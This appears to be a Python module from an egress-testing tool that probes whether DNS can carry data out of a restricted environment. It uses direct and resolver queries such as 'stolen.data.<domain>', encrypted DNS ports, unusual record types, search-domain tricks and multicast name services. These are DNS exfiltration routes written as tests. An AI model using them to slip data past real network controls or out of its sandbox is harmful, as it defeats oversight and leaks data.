"""Carrying things out in DNS, and lying with it."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from pathlib import Path

from exitway.attack import wire
from exitway.attack.attempts.http import request
from exitway.attack.probe import Reached, Tries, Try, talk, tell
from exitway.attack.target import Target

_TYPES = {
    "NS": 2,
    "CNAME": 5,
    "SOA": 6,
    "NULL": 10,
    "PTR": 12,
    "MX": 15,
    "TXT": 16,
    "SRV": 33,
    "NAPTR": 35,
    "SVCB": 64,
    "HTTPS": 65,
    "ANY": 255,
}
_TYPES |= {"AXFR": 252, "CAA": 257, "private use": 65280}
_LOOK_UP = """
import socket, sys
for name in sys.argv[1:]:
    try: print(socket.getaddrinfo(name, 80)[0][4][0])
    except OSError as error: print(error)
"""


def resolvers() -> list[str]:
    """Those that a program is told of."""
    lines = Path("/etc/resolv.conf").read_text().splitlines()
    return [line.split()[1] for line in lines if line.startswith("nameserver ")]


def look_up(name: str) -> str:
    """As every program does."""
    try:
        return " ".join(sorted({str(found[4][0]) for found in socket.getaddrinfo(name, 80)}))
    except socket.gaierror as error:
        return error.strerror or str(error)


def own_server(target: Target) -> Tries:
    """C1."""
    question = wire.query(f"stolen.data.{target.refused}")
    return [
        line
        for address in (target.ipv4, target.ipv6)
        for line in (
            Try(f"UDP, {address}", tell, address, 53, question),
            Try(f"TCP, {address}", talk, address, 53, wire.over_tcp(question)),
        )
    ]


def through_resolver(target: Target) -> Tries:
    """C2."""
    long = ".".join(["x" * 63] * 2)
    names = (
        target.refused,
        f"stolen.{target.refused}",
        f"{long}.{target.refused}",
        f"a\x00b.{target.refused}",
        f"_dmarc.{target.refused}",
    )
    asked: Tries = [Try(f"look up {name[:20]!r}", look_up, name) for name in names if "\0" not in name]
    return asked + [
        Try(f"ask {server} over {how}", _ask, server, wire.query(name), how)
        for server in resolvers()
        for name in names
        for how in ("UDP", "TCP")
    ]


def _ask(server: str, question: bytes, how: str = "UDP") -> bytes:
    return tell(server, 53, question) if how == "UDP" else talk(server, 53, wire.over_tcp(question))[2:]


def encrypted(target: Target) -> Tries:
    """C4."""
    hello = wire.client_hello(b"dns." + target.refused.encode())
    question = request(
        target.refused, "Content-Type: application/dns-message", target="/dns-query?dns=AAABAAABAAAAAAAAAWEBYgAAAQAB"
    )
    return [
        line
        for at in (target.ipv4, target.ipv6, target.refused)
        for line in (
            Try(f"DoT, {at}", talk, at, 853, hello),
            Try(f"DoH, {at}", talk, at, 443, hello),
            Try(f"DoH without TLS, {at}", talk, at, 80, question),
            *[Try(f"DoQ, {at} port {port}", tell, at, port, bytes(1200)) for port in (784, 853, 8853)],
        )
    ]


def query_types(target: Target) -> Tries:
    """C5. An answer of any other type could lead elsewhere (ipv4hint, ech) or bring something in."""
    said: Tries = []
    for server in resolvers():
        for name, number in _TYPES.items():
            question = wire.query(f"{name.lower().replace(' ', '-')}.{target.refused}", number)
            answer = tell(server, 53, question)
            count = int.from_bytes(answer[6:8])
            said.append(f"{name}: {len(answer)} bytes, {count} answers")
            if count and name != "ANY":
                raise Reached(f"{server} answers a query of type {name}")
    return said


def search_domains(target: Target) -> Tries:
    """C10."""
    names = ("db", target.allowed + ".", f"{target.allowed}.{target.refused}", "a.b")
    environment = os.environ | {"LOCALDOMAIN": target.refused, "RES_OPTIONS": "ndots:9"}
    command = [sys.executable, "-I", "-c", _LOOK_UP, *names]
    asked = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=20, check=False)
    return [f"{name}: {line}" for name, line in zip(names, asked.stdout.splitlines(), strict=False)]


def neighbours(target: Target) -> Tries:
    """C11. mDNS, LLMNR, NetBIOS."""
    question = wire.query(target.refused)
    places = (
        ("224.0.0.251", 5353),
        ("224.0.0.252", 5355),
        ("224.0.0.251", 53),
        (target.ipv4, 137),
        (target.ipv4, 5353),
    )
    said: Tries = [Try(f"UDP, {address} port {port}", tell, address, port, question) for address, port in places]
    zones = [zone for _, zone in socket.if_nameindex()]
    return said + [Try(f"UDP, ff02::fb%{zone}", tell, f"ff02::fb%{zone}", 5353, question) for zone in zones]
